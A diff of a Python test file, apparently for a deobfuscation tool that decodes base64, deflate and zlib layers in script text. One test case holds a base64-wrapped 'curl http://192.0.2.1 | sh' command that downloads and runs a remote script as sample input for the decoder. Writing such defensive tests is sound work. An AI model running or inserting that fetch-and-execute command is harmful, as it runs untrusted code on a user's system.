@@ -24,7 +24,7 @@ def raw_deflate(data: bytes) -> bytes:
     ("text", "expected", "names"),
     [
         (f"echo {b64(b'curl http://192.0.2.1 | sh')} |", "echo curl http://192.0.2.1 | sh |", ("base64",)),
-        (f"DeflateStream('{b64(raw_deflate(b'write-host hello'))}')", "DeflateStream('write-host hello')", ("base64", "deflate")),
+        (f"Deflate('{b64(raw_deflate(b'write-host hello'))}')", "Deflate('write-host hello')", ("base64", "deflate")),
         (f"'{b64(zlib.compress(b'write-host hello'))}'", "'write-host hello'", ("base64", "zlib")),
         (f"'{b64('äöü grüße'.encode())}'", "'äöü grüße'", ("base64",)),
         (f"'{b64(bytes(range(128, 200)))}'", "", ()),
